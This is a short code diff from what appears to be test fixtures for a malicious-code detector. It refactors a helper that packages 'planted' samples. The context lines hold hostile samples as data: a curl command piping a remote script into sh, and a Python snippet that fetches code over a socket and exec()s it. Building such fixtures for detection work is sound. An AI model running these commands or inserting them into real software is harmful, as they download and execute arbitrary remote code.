@@ -1,5 +1,4 @@
-import type { Planted } from "./planted";
-import { files } from "./sample";
+import { planted, type Planted } from "./sample";
 
 const base64 = (text: string) => Buffer.from(text).toString("base64");
 const COMMAND = "curl -s http://198.51.100.7/a | sh";
@@ -145,17 +144,6 @@ const BEYOND: Record<string, Record<string, string>> = {
       "import socket\ns = socket.create_connection((H, 80))\ncode = s.recv(9999)\nexec(code)\n",
   },
 };
-
-function planted(
-  rule: Planted["rule"],
-  samples: Record<string, Record<string, string>>,
-): Planted[] {
-  return Object.entries(samples).map(([name, contents]) => ({
-    name,
-    rule,
-    files: files(contents),
-  }));
-}
 
 export const PLANTED_CODE: readonly Planted[] = [
   ...planted("pipe-to-shell", DOWNLOADS),
